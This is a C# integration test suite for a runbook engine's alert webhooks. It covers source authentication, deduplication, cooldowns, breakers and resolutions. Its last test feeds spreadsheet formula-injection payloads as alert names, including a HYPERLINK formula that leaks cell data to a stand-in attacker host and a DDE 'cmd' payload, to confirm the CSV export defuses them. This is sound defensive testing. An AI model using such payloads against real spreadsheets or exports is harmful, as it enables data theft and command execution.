using System.Security.Cryptography;
using System.Text;
using System.Text.Json;

namespace RunbookEngine.IntegrationTests;

/// <summary>One host on SQLite receiving alert webhooks; each test uses its own alert names or fingerprints.</summary>
public sealed class alerts_arriving_by_webhook(alerts_arriving_by_webhook.HostFixture fixture) : IClassFixture<alerts_arriving_by_webhook.HostFixture>
{
    private HttpClient Http => fixture.Workspace.Http;

    [Fact]
    public async Task a_matching_alert_starts_its_runbook_with_parameters_from_the_alert()
    {
        var work = Directory.CreateTempSubdirectory("runbook-alert-").FullName;
        var ids = await Http.PostGenericAsync(new
        {
            name = "DiskFull",
            labels = new { instance = "db-7:9100", severity = "critical" },
            annotations = new { work },
            startsAt = "2026-11-24T01:00:00Z",
        });

        var alert = await Http.SettledAlertAsync(ids.Single());
        var decision = alert.Decisions().Single();
        var run = await Http.EndedRunAsync(decision.RunId!);

        Assert.Equal("Started", alert.Outcome());
        Assert.Equal("on-disk-full", decision.Runbook);
        Assert.Equal("Succeeded", run.Status());
        Assert.Equal("DiskFull", File.ReadAllText(Path.Combine(work, "cleaned-db-7_9100")));
        Assert.Equal(ids.Single(), run.GetProperty("run").GetProperty("alertId").GetString());
    }

    [Fact]
    public async Task one_alert_can_start_several_runbooks()
    {
        var alert = await Http.SettledAlertAsync((await Http.PostGenericAsync(new { name = "NeedsTwoFixes", fingerprint = "two-1" })).Single());

        Assert.Equal([("on-two-a", "Started"), ("on-two-b", "Started")], alert.Decisions().Select(d => (d.Runbook, d.Decision)));
        foreach (var decision in alert.Decisions())
        {
            Assert.Equal("Succeeded", (await Http.EndedRunAsync(decision.RunId!)).Status());
        }
    }

    [Fact]
    public async Task a_storm_of_the_same_alert_starts_one_run()
    {
        var body = File.ReadAllBytes(AlertWebhooks.Fixture("alertmanager", "live-firing-grouped.json"));
        var answers = await Task.WhenAll(Enumerable.Range(0, 20).Select(_ => Http.PostHookAsync("alertmanager", body)));

        Assert.All(answers, a => Assert.Equal(202, a.Status));
        var stored = answers.SelectMany(a => a.Body.GetProperty("alerts").EnumerateArray()).ToList();
        var originals = stored.Where(a => !a.TryGetProperty("duplicateOf", out _)).Select(a => a.GetProperty("id").GetString()!).ToList();
        Assert.Equal(60, stored.Count);
        Assert.Equal(3, originals.Count);
        foreach (var id in originals)
        {
            var alert = await Http.SettledAlertAsync(id);
            Assert.Equal("on-high-latency", alert.Decisions().Single().Runbook);
            Assert.Single(alert.GetProperty("runs").EnumerateArray());
        }
    }

    [Fact]
    public async Task an_alert_no_runbook_matches_is_kept_as_unautomated()
    {
        var ids = await Http.PostGenericAsync(new { name = "CertificateExpiresSoon", labels = new { host = "edge-1" } });

        var alert = await Http.SettledAlertAsync(ids.Single());

        Assert.Equal("Unautomated", alert.Outcome());
        Assert.Empty(alert.Decisions());
        var (_, unautomated) = await Http.SendAsync(HttpMethod.Get, "/api/alerts?matched=false");
        Assert.Contains(unautomated.GetProperty("alerts").EnumerateArray(), a => a.GetProperty("id").GetString() == ids.Single());
    }

    [Fact]
    public async Task a_second_alert_for_the_same_target_within_the_cooldown_starts_nothing()
    {
        var first = await Http.PostGenericAsync(new { name = "CoolMe", fingerprint = "cool-1", startsAt = "2026-11-24T01:00:00Z" });
        var started = await Http.SettledAlertAsync(first.Single());
        await Http.EndedRunAsync(started.Decisions().Single().RunId!);

        var again = await Http.PostGenericAsync(new { name = "CoolMe", fingerprint = "cool-1", startsAt = "2026-11-24T01:30:00Z" });
        var cooled = await Http.SettledAlertAsync(again.Single());
        var other = await Http.SettledAlertAsync((await Http.PostGenericAsync(new { name = "CoolMe", fingerprint = "cool-2" })).Single());

        Assert.Equal("Guarded", cooled.Outcome());
        var decision = cooled.Decisions().Single();
        Assert.Equal("Cooldown", decision.Decision);
        Assert.Contains("cooldown 1h", decision.Reason, StringComparison.Ordinal);
        Assert.Equal("Started", other.Outcome());
    }

    [Fact]
    public async Task an_open_breaker_suppresses_alerts_and_says_so_until_a_person_resets_it()
    {
        // The fixture's host allows 3 alert-started runs per runbook in the window.
        for (var i = 0; i < 3; i++)
        {
            var ran = await Http.SettledAlertAsync((await Http.PostGenericAsync(new { name = "Flapping", fingerprint = $"flap-{i}" })).Single());
            Assert.Equal("Started", ran.Outcome());
        }

        var suppressed = await Http.SettledAlertAsync((await Http.PostGenericAsync(new { name = "Flapping", fingerprint = "flap-3" })).Single());
        var (_, breakers) = await Http.SendAsync(HttpMethod.Get, "/api/breakers");
        var breaker = breakers.EnumerateArray().Single(b => b.GetProperty("runbook").GetString() == "on-flapping");
        var (resetStatus, reset) = await Http.SendAsync(HttpMethod.Post, "/api/breakers/on-flapping/reset?by=alice");
        var after = await Http.SettledAlertAsync((await Http.PostGenericAsync(new { name = "Flapping", fingerprint = "flap-4" })).Single());

        Assert.Equal("Guarded", suppressed.Outcome());
        Assert.Equal("Suppressed", suppressed.Decisions().Single().Decision);
        Assert.Contains("3 alert-started runs within 15m (limit 3)", suppressed.Decisions().Single().Reason, StringComparison.Ordinal);
        Assert.Equal("open", breaker.GetProperty("state").GetString());
        Assert.Equal(200, resetStatus);
        Assert.Equal("closed", reset.GetProperty("state").GetString());
        Assert.Equal("alice", reset.GetProperty("resetBy").GetString());
        Assert.Equal("Started", after.Outcome());
    }

    [Fact]
    public async Task a_resolution_records_the_end_and_cancels_a_queued_run_when_the_runbook_says_so()
    {
        var work = Directory.CreateTempSubdirectory("runbook-resolve-").FullName;
        var holding = await Http.SettledAlertAsync((await Http.PostGenericAsync(
            new { name = "SlowFix", fingerprint = "slow-a", labels = new { instance = "web-3" }, annotations = new { work } })).Single());
        var holdingRun = holding.Decisions().Single().RunId!;
        Assert.True(SpinWait.SpinUntil(() => File.Exists(Path.Combine(work, "started-" + holdingRun)), TimeSpan.FromMinutes(1)), "the first run never started");
        var queued = await Http.SettledAlertAsync((await Http.PostGenericAsync(
            new { name = "SlowFix", fingerprint = "slow-b", labels = new { instance = "web-3" }, annotations = new { work } })).Single());
        var queuedRun = queued.Decisions().Single().RunId!;

        var resolution = await Http.SettledAlertAsync((await Http.PostGenericAsync(new
        {
            name = "SlowFix",
            status = "resolved",
            fingerprint = "slow-b",
            labels = new { instance = "web-3" },
            endsAt = "2026-11-24T02:00:00Z",
        })).Single());
        var cancelled = await Http.EndedRunAsync(queuedRun);
        File.WriteAllText(Path.Combine(work, "release"), "go");
        var finished = await Http.EndedRunAsync(holdingRun);
        var closed = await Http.SettledAlertAsync(queued.GetProperty("alert").GetProperty("id").GetString()!);

        Assert.Equal("Resolution", resolution.Outcome());
        Assert.Equal("Cancelled", cancelled.Status());
        Assert.Equal("Succeeded", finished.Status());
        Assert.Equal(DateTimeOffset.Parse("2026-11-24T02:00:00Z", System.Globalization.CultureInfo.InvariantCulture),
            closed.GetProperty("alert").GetProperty("resolvedAt").GetDateTimeOffset());
        Assert.False(File.Exists(Path.Combine(work, "started-" + queuedRun)));
    }

    [Fact]
    public async Task an_azure_monitor_metric_alert_starts_its_runbook_and_its_resolution_closes_it()
    {
        var fired = File.ReadAllBytes(AlertWebhooks.Fixture("azure-monitor", "docs-test-metric-static-fired.json"));
        var resolved = Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(fired)
            .Replace("\"monitorCondition\":\"Fired\"", "\"monitorCondition\":\"Resolved\"", StringComparison.Ordinal)
            .Replace("\"firedDateTime\":\"2021-11-15T09:35:24.3468506Z\",", "\"firedDateTime\":\"2021-11-15T09:35:24.3468506Z\",\"resolvedDateTime\":\"2021-11-15T09:50:00Z\",", StringComparison.Ordinal));

        // Azure cannot set headers on a plain webhook, so the credential rides in the URL; loopback is no excuse once one is configured.
        Assert.Equal(401, (await Http.PostHookAsync("azure-monitor", fired)).Status);
        Assert.Equal(403, (await Http.PostHookAsync("azure-monitor?token=not-it", fired)).Status);
        var (status, body) = await Http.PostHookAsync("azure-monitor?token=azure-query-token", fired);
        Assert.Equal(202, status);
        var alert = await Http.SettledAlertAsync(body.GetProperty("alerts")[0].GetProperty("id").GetString()!);
        var decision = alert.Decisions().Single();
        Assert.Equal(("Started", "on-azure-transactions"), (alert.Outcome(), decision.Runbook));
        Assert.Equal("Succeeded", (await Http.EndedRunAsync(decision.RunId!)).Status());

        var (resolvedStatus, resolvedBody) = await Http.PostHookAsync("azure-monitor?token=azure-query-token", resolved);
        Assert.Equal(202, resolvedStatus);
        var resolution = await Http.SettledAlertAsync(resolvedBody.GetProperty("alerts")[0].GetProperty("id").GetString()!);
        var closed = await Http.SettledAlertAsync(alert.GetProperty("alert").GetProperty("id").GetString()!);

        Assert.Equal("Resolution", resolution.Outcome());
        Assert.Equal(DateTimeOffset.Parse("2021-11-15T09:50:00Z", System.Globalization.CultureInfo.InvariantCulture),
            closed.GetProperty("alert").GetProperty("resolvedAt").GetDateTimeOffset());
    }

    [Fact]
    public async Task real_datadog_custom_payloads_start_their_runbook_and_the_recovery_closes_it()
    {
        // Captured from Datadog by a team whose template names the event event_id and the tags event_tags (Fixtures/datadog/SOURCE.md).
        var triggered = File.ReadAllBytes(AlertWebhooks.Fixture("datadog", "fluffy-custom-payload-triggered.json"));
        var recovered = File.ReadAllBytes(AlertWebhooks.Fixture("datadog", "fluffy-custom-payload-recovered.json"));
        var token = new Dictionary<string, string> { ["Authorization"] = "Bearer datadog-token" };

        // The payload's own "secret" field is the sender's business; the engine wants the webhook's custom header.
        Assert.Equal(401, (await Http.PostHookAsync("datadog", triggered)).Status);
        var (status, body) = await Http.PostHookAsync("datadog", triggered, headers: token);
        Assert.Equal(202, status);
        var alert = await Http.SettledAlertAsync(body.GetProperty("alerts")[0].GetProperty("id").GetString()!);
        var decision = alert.Decisions().Single();
        Assert.Equal(("Started", "on-dock-memory"), (alert.Outcome(), decision.Runbook));
        Assert.Equal("datadog", alert.GetProperty("alert").GetProperty("source").GetString());
        Assert.Equal("Succeeded", (await Http.EndedRunAsync(decision.RunId!)).Status());

        var (resolvedStatus, resolvedBody) = await Http.PostHookAsync("datadog", recovered, headers: token);
        Assert.Equal(202, resolvedStatus);
        var resolution = await Http.SettledAlertAsync(resolvedBody.GetProperty("alerts")[0].GetProperty("id").GetString()!);
        var closed = await Http.SettledAlertAsync(alert.GetProperty("alert").GetProperty("id").GetString()!);

        Assert.Equal("Resolution", resolution.Outcome());
        Assert.Equal(DateTimeOffset.FromUnixTimeMilliseconds(1448435477000), closed.GetProperty("alert").GetProperty("resolvedAt").GetDateTimeOffset());
    }

    [Fact]
    public async Task a_datadog_template_with_its_own_shape_is_read_through_the_field_map_and_starts_its_runbook()
    {
        // The host maps datadog's id to /event/id and its title to /event/title (HostFixture); tags stay where the source looks.
        var body = Encoding.UTF8.GetBytes("""
            {"event": {"id": "map-7", "title": "[Triggered on {host:dock-map-1}] Dock is almost out of memory..."}, "alert_transition": "Triggered", "event_tags": "role:dock,host:dock-map-1"}
            """);
        var token = new Dictionary<string, string> { ["Authorization"] = "Bearer datadog-token" };

        var (status, answer) = await Http.PostHookAsync("datadog", body, headers: token);

        Assert.Equal(202, status);
        var alert = await Http.SettledAlertAsync(answer.GetProperty("alerts")[0].GetProperty("id").GetString()!);
        Assert.Equal(("Started", "on-dock-memory"), (alert.Outcome(), alert.Decisions().Single().Runbook));
        Assert.Equal("Succeeded", (await Http.EndedRunAsync(alert.Decisions().Single().RunId!)).Status());

        // Without the event's title where the map points, the answer names the setting that looked for it.
        var (missing, refusal) = await Http.PostHookAsync("datadog", Encoding.UTF8.GetBytes("""{"event": {"id": "map-8"}}"""), headers: token);
        Assert.Equal(400, missing);
        Assert.Contains("RunbookEngine:Alerts:Sources:datadog:Fields:title points at /event/title", refusal.GetProperty("error").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task a_signed_custom_source_takes_only_bodies_signed_with_its_secret()
    {
        var body = Encoding.UTF8.GetBytes("""{"title": "SignedCustomNoise"}""");
        string Sign(string secret) => "sha256=" + Convert.ToHexStringLower(HMACSHA256.HashData(Encoding.UTF8.GetBytes(secret), body));

        var (unsigned, _) = await Http.PostHookAsync("custom/signed", body);
        var (forged, _) = await Http.PostHookAsync("custom/signed", body, headers: new Dictionary<string, string> { ["X-Signature-256"] = Sign("guess") });
        var (signed, answer) = await Http.PostHookAsync("custom/signed", body, headers: new Dictionary<string, string> { ["X-Signature-256"] = Sign("signed-secret") });

        Assert.Equal((401, 403, 202), (unsigned, forged, signed));
        Assert.Equal("custom/signed", (await Http.SettledAlertAsync(answer.GetProperty("alerts")[0].GetProperty("id").GetString()!)).GetProperty("alert").GetProperty("source").GetString());
    }

    [Fact]
    public async Task a_custom_payload_starts_its_runbook_and_its_resolution_closes_it()
    {
        static byte[] Incident(string eventId, string state, string? closed) => Encoding.UTF8.GetBytes(JsonSerializer.Serialize(new
        {
            event_id = eventId,
            incident = new { title = "CheckoutLatencyHigh", state, closed, summary = "p99 over 2s", tags = new { service = "checkout", region = "eu-west-1" } },
        }));
        var token = new Dictionary<string, string> { ["Authorization"] = "Bearer acme-token" };

        var (unknown, unknownBody) = await Http.PostHookAsync("custom/nope", Incident("e-0", "TRIGGERED", null), headers: token);
        Assert.Equal(404, unknown);
        Assert.Contains("configured: acme", unknownBody.GetProperty("error").GetString(), StringComparison.Ordinal);
        Assert.Equal(401, (await Http.PostHookAsync("custom/acme", Incident("e-1", "TRIGGERED", null))).Status);
        var (missing, missingBody) = await Http.PostHookAsync("custom/acme", Encoding.UTF8.GetBytes("{\"incident\": {}}"), headers: token);
        Assert.Equal(400, missing);
        Assert.Equal("name: nothing at /incident/title (RunbookEngine:Alerts:Custom:acme:Fields:name)", missingBody.GetProperty("error").GetString());

        var (status, body) = await Http.PostHookAsync("custom/acme", Incident("e-1", "TRIGGERED", null), headers: token);
        Assert.Equal(202, status);
        var alert = await Http.SettledAlertAsync(body.GetProperty("alerts")[0].GetProperty("id").GetString()!);
        var decision = alert.Decisions().Single();
        Assert.Equal(("Started", "on-custom-checkout"), (alert.Outcome(), decision.Runbook));
        Assert.Equal("custom/acme", alert.GetProperty("alert").GetProperty("source").GetString());
        Assert.Equal("Succeeded", (await Http.EndedRunAsync(decision.RunId!)).Status());

        var (resolvedStatus, resolvedBody) = await Http.PostHookAsync("custom/acme", Incident("e-2", "resolved", "2026-11-24T03:00:00Z"), headers: token);
        Assert.Equal(202, resolvedStatus);
        var resolution = await Http.SettledAlertAsync(resolvedBody.GetProperty("alerts")[0].GetProperty("id").GetString()!);
        var closed = await Http.SettledAlertAsync(alert.GetProperty("alert").GetProperty("id").GetString()!);

        Assert.Equal("Resolution", resolution.Outcome());
        Assert.Equal(DateTimeOffset.Parse("2026-11-24T03:00:00Z", System.Globalization.CultureInfo.InvariantCulture),
            closed.GetProperty("alert").GetProperty("resolvedAt").GetDateTimeOffset());
    }

    [Theory]
    [InlineData("truncated JSON", "alertmanager", "{\"version\":\"4\",\"alerts\":[", "application/json", 400)]
    [InlineData("labels of the wrong type", "alertmanager", "{\"version\":\"4\",\"status\":\"firing\",\"alerts\":[{\"status\":\"firing\",\"labels\":[\"a\"],\"annotations\":{},\"startsAt\":\"2026-11-24T01:00:00Z\"}]}", "application/json", 400)]
    [InlineData("no alerts", "alertmanager", "{\"version\":\"4\",\"status\":\"firing\",\"alerts\":[]}", "application/json", 400)]
    [InlineData("a generic alert without a name", "generic", "{\"labels\":{}}", "application/json", 400)]
    [InlineData("the wrong content type", "generic", "{\"name\":\"X\"}", "text/plain", 415)]
    [InlineData("an unknown source", "nagios", "{\"name\":\"X\"}", "application/json", 404)]
    public async Task bad_input_gets_its_4xx_and_stores_nothing(string why, string source, string body, string contentType, int expected)
    {
        var before = await Http.AlertCountAsync();

        var (status, answer) = await Http.PostHookAsync(source, Encoding.UTF8.GetBytes(body), contentType);

        Assert.True(expected == status, $"{why}: expected {expected}, got {status}: {answer}");
        Assert.False(string.IsNullOrEmpty(answer.GetProperty("error").GetString()), why);
        Assert.Equal(before, await Http.AlertCountAsync());
    }

    [Fact]
    public async Task a_body_over_the_limit_gets_413_and_stores_nothing()
    {
        var before = await Http.AlertCountAsync();
        var twoMiB = Encoding.UTF8.GetBytes("{\"name\":\"Big\",\"annotations\":{\"x\":\"" + new string('x', 2 * 1024 * 1024) + "\"}}");

        var (status, _) = await Http.PostHookAsync("generic", twoMiB);

        Assert.Equal(413, status);
        Assert.Equal(before, await Http.AlertCountAsync());
    }

    [Fact]
    public async Task signed_sources_accept_the_right_signature_and_refuse_a_wrong_or_missing_one()
    {
        var grafana = File.ReadAllBytes(AlertWebhooks.Fixture("grafana", "alerting-test-default-payload-firing.json"));
        var pagerduty = File.ReadAllBytes(AlertWebhooks.Fixture("pagerduty", "zulip-incident-triggered-v3.json"));
        var before = await Http.AlertCountAsync();

        var missing = await Http.PostHookAsync("grafana", grafana);
        var wrong = await Http.PostHookAsync("grafana", grafana, headers: new Dictionary<string, string> { ["X-Grafana-Alerting-Signature"] = new string('0', 64) });
        var tampered = await Http.PostHookAsync("pagerduty", [.. pagerduty, (byte)' '], headers: PagerDutyRotation);
        Assert.Equal((401, 403, 403), (missing.Status, wrong.Status, tampered.Status));
        Assert.Equal(before, await Http.AlertCountAsync());

        var signed = await Http.PostHookAsync("grafana", grafana, headers: new Dictionary<string, string>
        {
            ["X-Grafana-Alerting-Signature"] = "74b350fc266820c7843141914c06bb146de23620832cb88f517556cd43fcd711",
        });
        var rotated = await Http.PostHookAsync("pagerduty", pagerduty, headers: PagerDutyRotation);
        Assert.Equal((202, 202), (signed.Status, rotated.Status));
    }

    [Fact]
    public async Task a_source_with_a_bearer_token_refuses_requests_without_it()
    {
        var body = File.ReadAllBytes(AlertWebhooks.Fixture("opsgenie", "zulip-create.json"));

        var missing = await Http.PostHookAsync("opsgenie", body);
        var wrong = await Http.PostHookAsync("opsgenie", body, headers: new Dictionary<string, string> { ["Authorization"] = "Bearer nope" });
        var right = await Http.PostHookAsync("opsgenie", body, headers: new Dictionary<string, string> { ["Authorization"] = "Bearer opsgenie-token" });

        Assert.Equal((401, 403, 202), (missing.Status, wrong.Status, right.Status));
    }

    [Fact]
    public async Task a_signed_pagerduty_delivery_replayed_with_a_new_webhook_id_is_a_duplicate_and_starts_nothing()
    {
        var eventId = Guid.NewGuid().ToString("N");
        var body = Encoding.UTF8.GetBytes(File.ReadAllText(AlertWebhooks.Fixture("pagerduty", "zulip-incident-triggered-v3.json"))
            .Replace("01BZYIL05THJDFF2Y08X9SVMTU", eventId, StringComparison.Ordinal)
            .Replace("PFQZPSY", "P" + eventId[..6], StringComparison.Ordinal)
            .Replace("Test Incident 3", "NeedsTwoFixes", StringComparison.Ordinal));
        var signature = new Dictionary<string, string>
        {
            ["X-PagerDuty-Signature"] = "v1=" + Convert.ToHexStringLower(HMACSHA256.HashData("pd-secret-new"u8, body)),
            ["X-Webhook-Id"] = "first-delivery",
        };

        var original = await Http.PostHookAsync("pagerduty", body, headers: signature);
        var started = await Http.SettledAlertAsync(original.Body.GetProperty("alerts")[0].GetProperty("id").GetString()!);
        signature["X-Webhook-Id"] = "a-header-the-replayer-made-up";
        var replay = await Http.PostHookAsync("pagerduty", body, headers: signature);
        var replayed = replay.Body.GetProperty("alerts")[0];
        var repeat = await Http.SettledAlertAsync(replayed.GetProperty("id").GetString()!);

        Assert.Equal((202, 202), (original.Status, replay.Status));
        Assert.Equal("Started", started.Outcome());
        Assert.Equal(started.GetProperty("alert").GetProperty("id").GetString(), replayed.GetProperty("duplicateOf").GetString());
        Assert.Equal(1, replay.Body.GetProperty("duplicates").GetInt32());
        Assert.Equal("Duplicate", repeat.Outcome());
        Assert.Empty(repeat.Decisions());
        var (_, after) = await Http.SendAsync(HttpMethod.Get, $"/api/alerts/{started.GetProperty("alert").GetProperty("id").GetString()}");
        Assert.Equal(2, after.GetProperty("runs").GetArrayLength());
    }

    [Fact]
    public async Task a_wrong_bearer_token_is_refused_before_a_chunked_body_over_the_limit_is_read()
    {
        var wrong = await Http.PostChunkedAsync("/hooks/opsgenie", 8L * 1024 * 1024, new Dictionary<string, string> { ["Authorization"] = "Bearer nope" });
        var unsigned = await Http.PostChunkedAsync("/hooks/pagerduty", 8L * 1024 * 1024, new Dictionary<string, string>());
        var right = await Http.PostChunkedAsync("/hooks/opsgenie", 8L * 1024 * 1024, new Dictionary<string, string> { ["Authorization"] = "Bearer opsgenie-token" });

        // Read first and refused after, these would be 413: the body is over the limit.
        Assert.Equal((403, 401), (wrong.Status, unsigned.Status));
        Assert.Equal(413, right.Status);
    }

    [Fact]
    public async Task alert_names_that_look_like_formulas_are_plain_text_in_the_csv_export()
    {
        var names = new[] { "=HYPERLINK(\"http://attacker.invalid/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)" };
        foreach (var name in names)
        {
            Assert.Equal("Unautomated", (await Http.SettledAlertAsync((await Http.PostGenericAsync(new { name })).Single())).Outcome());
        }

        using var response = await Http.GetAsync(new Uri("/api/toil/unautomated?format=csv", UriKind.Relative));
        var csv = await response.Content.ReadAsStringAsync();

        Assert.Contains("\"'=HYPERLINK(\"\"http://attacker.invalid/?\"\"&A1,\"\"open\"\")\"", csv, StringComparison.Ordinal);
        Assert.Contains(",'+1+cmd|' /C calc'!A0,", csv, StringComparison.Ordinal);
        Assert.Contains(",'-2+3,", csv, StringComparison.Ordinal);
        Assert.Contains(",'@SUM(A1:A9),", csv, StringComparison.Ordinal);
        foreach (var cell in csv.Split('\n').SelectMany(line => line.Split(',')))
        {
            Assert.False(cell.TrimStart('"').Length > 0 && cell.TrimStart('"')[0] is '=' or '+' or '@', $"a cell starts a formula: {cell}");
        }
    }

    private static Dictionary<string, string> PagerDutyRotation => new()
    {
        ["X-PagerDuty-Signature"] = "v1=125b4142693b9b96f6a5790faff6b5ad6728d691afb3f55beef7e5423f4c8d89,v1=386b3c86a0bd514ef7fdb42e256d3432a5ad365b4b93f5b09e67dfd15a48c4c5",
    };

    /// <summary>The shared host: secrets for the signing sources, tokens for Opsgenie, Azure Monitor and Datadog, a small breaker.</summary>
    public sealed class HostFixture : IAsyncLifetime
    {
        internal HostWorkspace Workspace { get; private set; } = null!;

        public async Task InitializeAsync() => Workspace = await HostWorkspace.StartAsync(new Dictionary<string, string>
        {
            ["RunbookEngine__Alerts__Sources__grafana__Secret"] = "grafana-hmac-secret",
            ["RunbookEngine__Alerts__Sources__pagerduty__Secrets__0"] = "pd-secret-old",
            ["RunbookEngine__Alerts__Sources__pagerduty__Secrets__1"] = "pd-secret-new",
            ["RunbookEngine__Alerts__Sources__opsgenie__BearerToken"] = "opsgenie-token",
            ["RunbookEngine__Alerts__Sources__azure-monitor__QueryToken"] = "azure-query-token",
            ["RunbookEngine__Alerts__Sources__datadog__BearerToken"] = "datadog-token",
            ["RunbookEngine__Alerts__Breaker__MaxRuns"] = "3",
            ["RunbookEngine__Alerts__Sources__datadog__Fields__id"] = "/event/id",
            ["RunbookEngine__Alerts__Sources__datadog__Fields__title"] = "/event/title",
            ["RunbookEngine__Alerts__Custom__signed__Secret"] = "signed-secret",
            ["RunbookEngine__Alerts__Custom__signed__SignaturePrefix"] = "sha256=",
            ["RunbookEngine__Alerts__Custom__signed__Fields__name"] = "/title",
            ["RunbookEngine__Alerts__Custom__acme__BearerToken"] = "acme-token",
            ["RunbookEngine__Alerts__Custom__acme__Fields__name"] = "/incident/title",
            ["RunbookEngine__Alerts__Custom__acme__Fields__status"] = "/incident/state",
            ["RunbookEngine__Alerts__Custom__acme__Fields__endsAt"] = "/incident/closed",
            ["RunbookEngine__Alerts__Custom__acme__Fields__labels"] = "/incident/tags",
            ["RunbookEngine__Alerts__Custom__acme__Fields__annotation.summary"] = "/incident/summary",
            ["RunbookEngine__Alerts__Custom__acme__Fields__id"] = "/event_id",
        });

        public async Task DisposeAsync() => await Workspace.DisposeAsync();
    }
}
